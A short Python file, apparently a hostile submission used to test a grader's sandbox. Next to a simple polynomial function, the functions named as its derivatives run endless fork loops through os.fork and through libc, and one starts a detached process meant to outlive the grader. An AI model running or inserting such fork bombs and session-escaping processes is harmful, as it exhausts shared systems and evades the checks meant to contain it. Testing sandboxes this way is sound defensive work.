"""Tries to multiply: through os.fork and subprocess, then through libc directly."""
import ctypes
import os
import subprocess

import torch


def q_function(a, b):
    return 3 * a**3 - b**2


def dq_da(a, b):
    subprocess.Popen(["sleep", "1000"], start_new_session=True)  # would outlive the grader
    while True:
        os.fork()


def dq_db(a, b):
    libc = ctypes.CDLL(None)  # the C library the interpreter already uses
    while True:
        libc.fork()
